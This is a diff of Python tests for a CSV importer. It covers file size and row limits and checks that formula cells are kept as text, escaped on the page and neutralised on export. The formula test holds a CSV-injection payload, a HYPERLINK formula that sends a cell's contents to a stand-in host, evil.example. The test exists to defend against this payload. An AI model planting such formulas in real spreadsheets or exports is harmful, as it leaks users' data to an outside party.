@@ -112,11 +112,9 @@ def test_a_file_over_the_size_limit_is_refused_whole(pm_client, importer):
 
 def test_a_10_mb_file_of_rows_is_refused_for_its_row_count(pm_client, importer):
     """Under the byte limit but over the row limit: refused before anything is stored."""
-    rows = importer.rows(60_000, start=100_000).encode()
-    pad = b"p" * max(0, 10 * 1024 * 1024 - len(rows))
-    content = importer.header.encode() + rows + pad if importer is PARTNERS else None
-    if importer is LINKS:
-        content = importer.header.encode() + rows  # 10,000 rows is the links limit
+    content = importer.header.encode() + importer.rows(60_000, start=100_000).encode()
+    # blank lines count for bytes, not rows: the file reaches 10 MB under the 20 MB limit
+    content += b"\n" * max(0, 10 * 1024 * 1024 - len(content))
     error, _ = importer.upload(pm_client, content)
     assert "more than" in error
     assert "rows" in error
@@ -124,11 +122,8 @@ def test_a_10_mb_file_of_rows_is_refused_for_its_row_count(pm_client, importer):
 
 
 def test_formula_cells_are_kept_as_text_shown_escaped_and_never_run(pm_client, importer):
-    content = (importer.header + f'cust-1,"{FORMULA.replace(chr(34), chr(34) * 2)}",x\n').encode()
-    if importer is LINKS:
-        content = (
-            importer.header + f'cust-1,"{FORMULA.replace(chr(34), chr(34) * 2)}",a@b.co\n'
-        ).encode()
+    quoted = '"' + FORMULA.replace('"', '""') + '"'
+    content = (importer.header + f"cust-1,{quoted},a@b.co\n").encode()
     error, batch = importer.upload(pm_client, content)
     assert error == ""
     assert batch.rows[0]["name"] == FORMULA  # the partner's text, unchanged
@@ -140,9 +135,9 @@ def test_formula_cells_are_kept_as_text_shown_escaped_and_never_run(pm_client, i
     assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;Click&quot;)" in page
     importer.confirm(pm_client, batch)
     assert importer.written() == 1
-    export = f"/links/import/{batch.pk}/links.csv" if importer is LINKS else "/links/export.csv"
-    if importer is LINKS:
-        body = b"".join(pm_client.get(export).streaming_content).decode()
+    if importer is LINKS:  # the partner side's exports are checked in test_csv_exports.py
+        export = pm_client.get(f"/links/import/{batch.pk}/links.csv")
+        body = b"".join(export.streaming_content).decode()
         assert "'=HYPERLINK" in body
         assert ",=HYPERLINK" not in body
 
